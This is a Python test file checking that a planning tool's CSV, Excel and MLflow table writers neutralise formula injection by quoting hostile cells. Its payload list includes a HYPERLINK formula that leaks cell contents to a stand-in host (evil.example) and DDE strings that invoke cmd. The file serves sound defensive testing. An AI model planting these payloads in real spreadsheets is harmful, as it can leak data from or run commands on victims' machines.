"""Issue 23, defect 7: formula injection. A hostile enterprise name, public value or authority must
not open as a live formula in any CSV or Excel file the project writes.

`test_every_writer_neutralises_hostile_text` enumerates every writer (the task list's CSV and
.xlsx, the public notice's CSV and .xlsx, the MLflow table artifacts), feeds it hostile text and
reads the files back: no cell is a formula, no text cell starts with a dangerous character, and
the hostile text is still there, prefixed with a single quote (OWASP). `test_no_writer_bypasses_
the_safe_module` keeps new writers from going around pipelines.spreadsheets."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import defusedcsv.csv as defused
import mlflow
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from models.registry import connect
from pipelines.cli import app
from pipelines.spreadsheets import csv_text, neutralise, safe_frame, write_csv, write_excel
from tests.pipelines.draw.factories import eligible_frame, tiny_plan_home

runner = CliRunner(env={"TERMINAL_WIDTH": "200", "COLUMNS": "200"})
AS_OF = "2025-07-01"
# Written out here rather than imported, so that a shorter list in the module fails these tests.
STARTS_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此核验")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PUBLIC_VALUE = "=1+1 (lottery)"
AUTHORITY = '@HYPERLINK("http://evil.example/","佛山市市场监督管理局")'


def plan(home: Path, *args: str) -> dict:
    result = runner.invoke(app, ["--json", "--data-home", str(home), "plan", *args])
    assert result.exit_code == 0, f"{result.output} {result.exception!r}"
    return json.loads(result.stdout)


def hostile_home(path: Path) -> Path:
    """The tiny plan home with every firm's name starting a formula (each payload four times)."""
    firms = eligible_frame(24)
    firms = firms.assign(name=[f"{PAYLOADS[i % len(PAYLOADS)]}{i}" for i in range(len(firms))])
    return tiny_plan_home(path, AS_OF, firms=firms)


def draw(home: Path) -> dict:
    return plan(home, "draw", "--as-of", AS_OF, "--item", "SJ-GS", "--capacity", "6", "--floor", "0.05",
                "--public-value", PUBLIC_VALUE, "--actor", "张科长")


def task_list_files(home: Path) -> list[Path]:
    folder = Path(plan(home, "export", draw(home)["plan_id"], "--format", "csv")["path"]).parent
    return [folder / "任务清单.csv", folder / "任务清单.xlsx"]


def public_notice_files(home: Path) -> list[Path]:
    plan_id = draw(home)["plan_id"]
    rows = [f"{k},未发现问题,2025-08-{k:02d}" for k in range(1, 7)]
    (home / "results.csv").write_text("\n".join(["task_id,result,inspection_date", *rows]) + "\n", encoding="utf-8")
    plan(home, "record", plan_id, "--file", str(home / "results.csv"), "--actor", "李四")
    published = plan(home, "publish", plan_id, "--on", "2025-09-05", "--actor", "张科长")
    return [Path(published["csv"]), Path(published["xlsx"])]


def mlflow_table_files(home: Path) -> list[Path]:
    """What `regulens train` logs as tables/*.csv (both trackers call log_tables), read back from the store."""
    from pipelines.modelling.tracking import log_tables
    connect(home / "mlflow")
    table = pd.DataFrame({"district": PAYLOADS, "hit_rate": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5], "rows": range(6)})
    with mlflow.start_run() as run:
        log_tables({"breakdown_district": table})
    folder = Path(mlflow.artifacts.download_artifacts(run_id=run.info.run_id, artifact_path="tables",
                                                      dst_path=str(home / "artifacts")))
    return [folder / "breakdown_district.csv"]


WRITERS: dict[str, Callable[[Path], list[Path]]] = {
    "task_list": task_list_files,
    # Passes once planning.publish_plan writes through pipelines.spreadsheets (the lead's swap).
    "public_notice": public_notice_files,
    "mlflow_tables": mlflow_table_files,
}


def cells(path: Path) -> Iterator[tuple[str, object]]:
    """(where, value) of every cell; a formula cell of an .xlsx is reported as such."""
    if path.suffix == ".xlsx":
        book = load_workbook(path)  # not data_only: formulas stay formulas
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    yield f"{path.name}!{sheet.title}!{cell.coordinate}", ("FORMULA", cell.value) \
                        if cell.data_type == "f" else cell.value
        return
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for r, row in enumerate(csv.reader(handle)):
            for c, value in enumerate(row):
                yield f"{path.name}:{r + 1}:{c + 1}", value


def is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


@pytest.mark.parametrize("writer", list(WRITERS))
def test_every_writer_neutralises_hostile_text(writer: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REGULENS_PLAN__AUTHORITY", AUTHORITY)
    files = WRITERS[writer](hostile_home(tmp_path / "home"))
    seen: set[str] = set()
    for path in files:
        assert path.is_file(), path
        for where, value in cells(path):
            assert not isinstance(value, tuple), f"{where} is a formula: {value}"
            if not isinstance(value, str):
                continue
            seen.add(value)
            dangerous = value.startswith(STARTS_A_FORMULA)
            # A CSV has no types: a plain number such as -0.5 is a number there, not text.
            assert not dangerous or (path.suffix == ".csv" and is_number(value)), f"{where} starts a formula: {value!r}"
    # Neutralised, not dropped: each hostile value is there behind a single quote.
    quoted = {v[1:] for v in seen if v.startswith("'")}
    assert any(any(q.startswith(p) for p in PAYLOADS) for q in quoted), sorted(seen)[:20]
    if writer == "task_list":
        assert "'" + PUBLIC_VALUE in seen  # the 计划信息 sheet
    if writer == "public_notice":
        assert "'" + AUTHORITY in seen  # 检查实施机关
    if writer == "mlflow_tables":
        assert "-0.5" in seen  # numbers stay numbers


def test_numeric_cells_stay_numbers_in_excel(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": ["=1+1", "-x", "ok"], "value": [-1.5, 2.0, 3.0], "count": [-1, 0, 1]})
    write_excel({"表": frame}, tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").worksheets[0]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["name", "value", "count"], ["'=1+1", -1.5, -1], ["'-x", 2, 0], ["ok", 3, 1]
    ]
    assert {c.data_type for row in sheet.iter_rows(min_row=2) for c in row[1:]} == {"n"}


def test_a_harmless_csv_is_byte_for_byte_what_pandas_wrote_before(tmp_path: Path) -> None:
    """`plan verify` compares a plan's 任务清单.csv byte for byte with a fresh export: plans drawn
    before the neutraliser must still verify."""
    frame = pd.DataFrame({"企业名称": ["测试企业0", 'a "quoted", name', "line\nbreak"], "x": [1.5, -2.0, 3.25]})
    write_csv(frame, tmp_path / "new.csv")
    frame.to_csv(tmp_path / "old.csv", index=False, encoding="utf-8-sig")
    assert (tmp_path / "new.csv").read_bytes() == (tmp_path / "old.csv").read_bytes()
    assert csv_text(frame) == frame.to_csv(index=False)


def test_safe_frame_leaves_numbers_dates_and_missing_values_alone() -> None:
    frame = pd.DataFrame({"text": ["=a", None, "b"], "n": [-1.0, float("nan"), 2.0],
                          "day": pd.to_datetime(["2025-01-01", None, "2025-01-03"]), "mixed": [-3, "+x", None]})
    out = safe_frame(frame)
    assert out["text"].tolist()[::2] == ["'=a", "b"] and pd.isna(out["text"].iat[1])
    assert out["n"].equals(frame["n"]) and out["day"].equals(frame["day"])
    assert out["mixed"].tolist()[:2] == [-3, "'+x"]


# --- the neutraliser against defusedcsv (PyPI), the well-kept CSV-injection guard ---------------
def defused_cell(value: str) -> str:
    """What defusedcsv's writer writes for one text cell."""
    buffer = io.StringIO()
    defused.writer(buffer).writerow([value])
    return next(csv.reader(io.StringIO(buffer.getvalue())))[0]


PLAIN_NUMBER = re.compile(r"^-?[0-9,.]+$")  # what defusedcsv leaves alone on purpose


@given(st.text(alphabet=st.sampled_from(list("=+-@|%\t\r'\"1,.aé计 ")), max_size=8))
def test_neutralise_escapes_whatever_defusedcsv_escapes(value: str) -> None:
    ours, theirs = neutralise(value), defused_cell(value)
    if theirs != value:  # defusedcsv escaped it: so do we, with the same single quote
        assert ours == "'" + value
        assert theirs.startswith("'") and theirs.replace("\\|", "|") == ours  # it also escapes each '|'
    elif ours != value:  # we escape more: tab and carriage return (OWASP), and text such as "-1" or "-"
        assert value.startswith(("\t", "\r")) or PLAIN_NUMBER.match(value) or value == "-"


@pytest.mark.parametrize("value", [*PAYLOADS, "=1+1", "+1", "-1+1", "@A1", "\tx", "\rx", "|x", "%x"])
def test_every_dangerous_start_is_quoted(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["测试企业", "", " =1", "'=1", "a=1", 3, -3.5, None])
def test_harmless_values_are_unchanged(value: object) -> None:
    assert neutralise(value) == value


# --- no writer goes around pipelines.spreadsheets ------------------------------------------------
ROOT = Path(__file__).resolve().parents[2]
WRITES_A_SHEET = re.compile(
    r"\.to_csv\(|\.to_excel\(|ExcelWriter|csv\.writer|DictWriter|\.write_csv\(|Workbook\(|xlsxwriter|log_table\("
)
ALLOWED = {
    "pipelines/spreadsheets.py": "the safe writers themselves",
    "pipelines/synthetic/extracts.py": "the synthetic city's raw extracts: inputs, written as a department would",
}


def test_no_writer_bypasses_the_safe_module() -> None:
    found = []
    for package in ("pipelines", "features", "models", "serving"):
        for path in sorted((ROOT / package).rglob("*.py")):
            name = path.relative_to(ROOT).as_posix()
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if WRITES_A_SHEET.search(line) and name not in ALLOWED:
                    found.append(f"{name}:{number}: {line.strip()}")
    assert not found, "write CSV and Excel through pipelines.spreadsheets:\n" + "\n".join(found)
